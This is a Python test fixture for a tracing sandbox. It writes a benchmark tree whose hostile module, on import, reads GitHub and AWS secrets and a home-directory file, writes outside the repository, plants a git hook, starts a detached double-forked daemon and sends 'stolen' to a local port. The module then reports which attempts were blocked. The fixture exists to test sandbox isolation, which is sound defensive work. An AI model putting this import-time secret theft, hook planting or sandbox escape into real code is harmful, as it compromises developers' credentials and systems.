"""A hostile operator_benchmark tree (written into a temp dir) for the tracing sandbox tests.

``pt/hostile_test.py`` does, at import (when the tracer imports it), what a malicious pull request
could: it reads secrets from the environment and from the user's home, writes outside the
repository, plants a git hook, starts a daemon meant to outlive perfq, and calls the network. It
then fails with a JSON line of what each attempt got, which the trace reports as its error.
A harness whose ``benchmark_core.py`` sleeps at import hangs the tracer's warm-up.
"""

from __future__ import annotations

import json
from pathlib import Path

HARNESS_CORE = "BENCHMARK_TESTER = []\n"
HARNESS_PYTORCH = """
class TorchBenchmarkBase:
    def test_name(self, **kwargs):
        return "hostile"
"""

HOSTILE = r'''
import json, os, socket, subprocess, sys

PLAN = json.loads({plan!r})
seen = {{}}


def attempt(name, action):
    try:
        seen[name] = action()
    except BaseException as exc:  # noqa: BLE001
        seen[name] = "blocked: " + type(exc).__name__


def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as fh:
        fh.write("#!/bin/sh\necho pwned\n")
    os.chmod(path, 0o755)
    return "written"


def read(path):
    with open(path) as fh:
        return "read: " + fh.read()


def daemon():
    if os.fork() == 0:  # double fork and a new session: out of the tracer's process group
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(1000)", PLAN["marker"]])
        os._exit(0)
    os.wait()
    return "started"


def connect():
    with socket.create_connection(("127.0.0.1", PLAN["port"]), timeout=3) as conn:
        conn.sendall(b"stolen")
    return "connected"


attempt("token", lambda: os.environ.get("GITHUB_TOKEN", "absent"))
attempt("secret", lambda: os.environ.get("AWS_SECRET_ACCESS_KEY", "absent"))
attempt("home", lambda: os.environ.get("HOME", "absent"))
attempt("tmpdir", lambda: os.environ.get("TMPDIR", "absent"))
attempt("home_secret", lambda: read(PLAN["home_secret"]))
attempt("outside", lambda: write(PLAN["outside"]))
attempt("hook", lambda: write(PLAN["hook"]))
attempt("daemon", daemon)
attempt("network", connect)
raise RuntimeError("HOSTILE " + json.dumps(seen))
'''

SLEEPY_CORE = """
import time
try:
    time.sleep(1000)
except BaseException:  # deaf to the warm-up's alarm: only the silence limit stops it
    {deaf}
BENCHMARK_TESTER = []
"""


def make_tree(root: Path, plan: dict | None = None, sleepy: str = "") -> Path:
    """A benchmark tree under ``root``: the harness (sleeping at import when ``sleepy`` is ``"alarm"``
    or ``"deaf"``) and ``pt/hostile_test.py`` doing ``plan``'s attacks; returns the benchmark file."""
    bench = root / "benchmarks" / "operator_benchmark"
    (bench / "pt").mkdir(parents=True)
    (bench / "pt" / "__init__.py").write_text("")
    core = SLEEPY_CORE.format(deaf="time.sleep(1000)" if sleepy == "deaf" else "raise") if sleepy else HARNESS_CORE
    (bench / "benchmark_core.py").write_text(core)
    (bench / "benchmark_pytorch.py").write_text(HARNESS_PYTORCH)
    file = bench / "pt" / "hostile_test.py"
    file.write_text(HOSTILE.format(plan=json.dumps(plan or {})) if plan else "raise SystemExit\n")
    return file


def outcomes(errors: tuple[str, ...]) -> dict[str, str]:
    """What each attack got, from the trace's errors."""
    for error in errors:
        if "HOSTILE " in error:
            return json.loads(error.split("HOSTILE ", 1)[1])
    raise AssertionError(f"the hostile module did not report: {errors}")
